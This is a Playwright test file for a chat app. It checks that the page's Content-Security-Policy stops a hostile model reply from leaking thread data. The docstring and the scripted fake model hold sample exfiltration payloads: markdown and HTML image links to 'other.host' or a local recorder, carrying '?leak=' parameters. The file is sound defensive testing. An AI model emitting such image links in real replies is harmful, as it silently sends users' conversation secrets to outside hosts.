"""A hostile model reply cannot make the browser send anything to another host.

Issue 12, finding 7: the app page had no Content-Security-Policy, so a model reply with
`![x](http://other.host/?leak=…)` made the browser request that URL as soon as the
message showed, and again whenever the thread was opened. A recording server on
127.0.0.2 (another origin, still loopback) stands in for the other host; the fake
OpenAI model is scripted to send the markdown. The page must still log in, render and
show a generated image, with no CSP refusal other than the expected ones.

Screenshots go to the test's tmp_path (and ATELIER_SCREENSHOT_DIR when set).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from tests.app_process import app_errors
from tests.attack_helpers import Recorder
from tests.browser_support import (
    chromium,
    log_in,
    on_failure_show,
    only_hosts,
    save_screenshot,
)
from tests.fakes.openai_server import Reply, default_brain
from tests.test_browser import CONTENT_IMAGES, WAIT_MS

pytestmark = pytest.mark.slow

LOOPBACK_HOSTS = ("127.0.0.1", "localhost", "127.0.0.2")
# Chainlit's page links a web font and the KaTeX stylesheet from CDNs; the policy
# refuses them (the test would abort them anyway: no network).
EXPECTED_REFUSALS = ("fonts.googleapis.com", "cdn.jsdelivr.net")
LEAK_WORD = "LEAKTEST"


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    with Recorder("127.0.0.2") as running:
        yield running


@pytest.fixture
def browser_page(tmp_path: Path) -> Iterator[tuple[Page, list[str], list[str]]]:
    """A page that may reach loopback only, with its CSP refusals and JS errors."""
    with chromium() as browser:
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        context.set_default_timeout(WAIT_MS)
        context.route("**/*", only_hosts(*LOOPBACK_HOSTS))
        page = context.new_page()
        refusals: list[str] = []
        errors: list[str] = []

        def on_console(message: ConsoleMessage) -> None:
            if "Content Security Policy" in message.text:
                refusals.append(message.text)

        page.on("console", on_console)
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        try:
            yield page, refusals, errors
        finally:
            context.close()


def _leaking_brain(url: str) -> Any:
    def brain(messages: list[dict[str, Any]], tools: list[dict[str, Any]]) -> Reply:
        last = messages[-1] if messages else {}
        if last.get("role") == "user" and LEAK_WORD in str(last.get("content")):
            return Reply(
                content=f"Here is your picture: ![x]({url}?leak=secret-of-the-thread) "
                f'and <img src="{url}?leak=html">'
            )
        return default_brain(messages, tools)

    return brain


def _wait_until_settled(page: Page, selector: str) -> None:
    """Every matching image has finished (loaded, or been refused)."""
    page.wait_for_function(
        "sel => [...document.querySelectorAll(sel)].every(img => img.complete)",
        arg=selector,
        timeout=WAIT_MS,
    )


def test_a_reply_cannot_send_the_browser_elsewhere(
    make_app, fake_openai, recorder: Recorder, browser_page, tmp_path: Path
) -> None:
    page, refusals, errors = browser_page
    app = make_app()

    # Control: this browser can reach the recorder, so silence later means the policy.
    page.goto(recorder.url + "control")
    assert recorder.requests == ["/control"]
    recorder.requests.clear()

    fake_openai.brain = _leaking_brain(recorder.url)
    with on_failure_show(app, page, tmp_path):
        response = page.goto(app.base_url, wait_until="domcontentloaded")
        assert response is not None
        headers = response.headers
        csp = headers["content-security-policy"]
        for directive in (
            "default-src 'self'",
            "img-src 'self' data: blob:",
            "media-src 'self' data: blob:",
            "frame-ancestors 'none'",
            "object-src 'none'",
            "base-uri 'self'",
        ):
            assert directive in csp, (directive, csp)
        assert re.search(r"script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')+;", csp), csp
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"

        log_in(page)
        chat_input = page.locator("#chat-input")
        expect(page.get_by_text("Welcome to Atelier.")).to_be_visible()

        # The page still works: an image is generated, shown and really decoded.
        chat_input.fill("draw a red fox in the snow")
        page.locator("#chat-submit").click()
        expect(page.get_by_text("Done. Generated 1 image(s)")).to_be_visible()
        image = page.locator(CONTENT_IMAGES).first
        image.scroll_into_view_if_needed()
        page.wait_for_function(
            "img => img.complete && img.naturalWidth > 0", arg=image.element_handle()
        )
        save_screenshot(page, tmp_path, "csp-1-image")

        # The hostile reply is shown, and its image is refused by the browser.
        chat_input.fill(f"{LEAK_WORD} tell me a secret")
        page.locator("#chat-submit").click()
        expect(page.get_by_text("Here is your picture")).to_be_visible()
        leak = page.locator(f"img[src^='{recorder.url}']")
        expect(leak).to_have_count(1)  # markdown images render; the raw <img> stays text
        _wait_until_settled(page, f"img[src^='{recorder.url}']")
        assert leak.evaluate("img => img.naturalWidth") == 0
        save_screenshot(page, tmp_path, "csp-2-leak-refused")
        assert recorder.requests == []

        # Opening the thread again (a new page load) sends nothing either.
        page.reload(wait_until="domcontentloaded")
        expect(page.get_by_text("Here is your picture")).to_be_visible()
        image = page.locator(CONTENT_IMAGES).first
        image.scroll_into_view_if_needed()
        page.wait_for_function(
            "img => img.complete && img.naturalWidth > 0", arg=image.element_handle()
        )
        _wait_until_settled(page, f"img[src^='{recorder.url}']")
        save_screenshot(page, tmp_path, "csp-3-reopened")
        assert recorder.requests == []
        # Stored files keep their own, stricter policy (nothing runs inside an image).
        media = page.request.get(image.evaluate("img => img.src"))
        assert media.ok and media.headers["content-security-policy"] == "default-src 'none'"

    print("CSP refusals:", *refusals, sep="\n  ")
    assert any("127.0.0.2" in text and "img-src" in text for text in refusals), refusals
    unexpected = [
        text
        for text in refusals
        if "127.0.0.2" not in text and not any(host in text for host in EXPECTED_REFUSALS)
    ]
    assert unexpected == [], "the policy refused something the app needs"
    assert errors == []
    assert app_errors(app) == []
